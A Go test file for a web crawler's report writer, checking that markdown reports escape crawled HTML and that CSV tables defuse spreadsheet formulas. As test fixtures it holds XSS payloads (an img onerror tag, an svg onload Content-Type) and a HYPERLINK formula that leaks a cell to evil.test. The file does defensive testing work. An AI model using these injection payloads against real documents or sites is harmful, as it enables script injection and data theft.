package report

import (
	"bytes"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
)

// Security review: text a crawled server chooses (anchor texts, texts
// around links, its Content-Type) reaches report.md and the CSV tables
// the archivist opens.

// hostileReportCrawl: th.test links to evil.test, which focusing turns
// away, with an anchor text that is HTML, and to calc.test with one that
// is a spreadsheet formula; and a server answered with a Content-Type
// that is HTML (no space in it, so crawl.log's field() keeps it whole).
const (
	htmlAnchor    = `<img src=x onerror=alert(document.domain)>`
	formulaAnchor = `=HYPERLINK("http://evil.test/?leak="&A2,"open")`
	htmlMIME      = `text/<svg/onload=alert(1)>`
)

func hostileReportOut(t *testing.T) string {
	crawl := []page{
		{url: "http://th.test/", depth: 0, tree: "th.test", lang: "th", charset: "utf-8", relevant: true, outlinks: []string{
			fmt.Sprintf(`http://evil.test/ L a/@href rejected:focus:irrelevant-page around:%q anchor:%q`, htmlAnchor, htmlAnchor),
			fmt.Sprintf(`http://calc.test/ L a/@href rejected:focus:irrelevant-page anchor:%q`, formulaAnchor),
			fmt.Sprintf(`http://calc.test/2 L a/@href rejected:focus:irrelevant-page anchor:%q`, formulaAnchor),
		}},
	}
	log := `2026-01-01T00:00:01.000Z   200       1000 http://th.test/ - - text/html #001 20260101000000000+12 sha1:AAA - lang:th,charset:utf-8
2026-01-01T00:00:02.000Z   200         10 http://th.test/x L http://th.test/ ` + htmlMIME + ` #001 20260101000300000+5 sha1:EEE - -
`
	profile := "depth: 1\nseeds:\n  - http://th.test/\nfocus:\n  language: th\n  strategy: conservative-server\n  tolerance: 0\n"
	return writeCrawlOut(t, crawl, log, profile)
}

// TestMarkdownEscapesCrawledHTML (from a review): report.md is markdown,
// and markdown passes inline HTML through (CommonMark, pandoc, most
// previewers): an anchor text or a Content-Type holding a tag must reach
// it escaped (&lt; or \<), not as a live element. mdEsc escaped only '|'
// and strconv.Quote leaves '<' alone.
func TestMarkdownEscapesCrawledHTML(t *testing.T) {
	r, err := Build(hostileReportOut(t))
	if err != nil {
		t.Fatal(err)
	}
	var md bytes.Buffer
	if err := r.WriteMarkdown(&md); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(md.String(), "evil.test") {
		t.Fatalf("the hostile candidate is not in the markdown at all:\n%s", md.String())
	}
	for _, raw := range []string{"<img", "<svg"} {
		if strings.Contains(md.String(), raw) {
			i := strings.Index(md.String(), raw)
			t.Errorf("report.md holds crawled HTML unescaped (%q): …%s…", raw, md.String()[max(0, i-40):min(md.Len(), i+60)])
		}
	}
}

// TestCSVCellsNoFormula (from a review): candidate-hosts.csv is written
// "for a curator" and opened in a spreadsheet; a cell a crawled page
// chose must not start with = + - @ (OWASP CSV injection): a leading
// apostrophe or a space defuses it.
func TestCSVCellsNoFormula(t *testing.T) {
	r, err := Build(hostileReportOut(t))
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if err := r.WriteFiles(dir); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, name := range []string{FileCandidates, FileMIMETypes, FileServers, FileSeeds} {
		rows := readCSV(t, filepath.Join(dir, name))
		for i, row := range rows[1:] {
			for j, cell := range row {
				if strings.Contains(cell, "HYPERLINK") {
					found = true
				}
				if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
					t.Errorf("%s row %d column %q starts a formula: %q", name, i+1, rows[0][j], cell)
				}
			}
		}
	}
	if !found {
		t.Fatalf("the formula anchor is in no CSV table: test does not reach the code")
	}
}
